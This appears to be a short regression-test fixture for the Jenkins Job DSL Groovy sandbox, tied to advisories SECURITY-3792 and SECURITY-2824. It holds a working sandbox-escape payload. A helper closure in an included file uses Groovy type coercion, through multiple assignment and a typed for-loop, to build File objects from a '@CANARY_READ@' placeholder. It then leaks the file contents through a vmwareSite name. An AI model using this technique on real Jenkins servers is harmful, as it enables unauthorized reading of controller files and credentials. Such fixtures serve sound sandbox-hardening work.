// class: coercion
// source: Jenkins SECURITY-3792 / SECURITY-2824, from an included file
// expect: read
include '_helpers.groovy'
vmwareSite("leak-${grab()}") { network 'VM Network' }
// ---- _helpers.groovy
grab = { ->
    def (File a, String b) = [['@CANARY_READ@'], 'x']
    String out = ''
    for (File f in [['@CANARY_READ@']]) { out += f*.toString().join('|') }
    a.collect { it }.join('|') + out
}
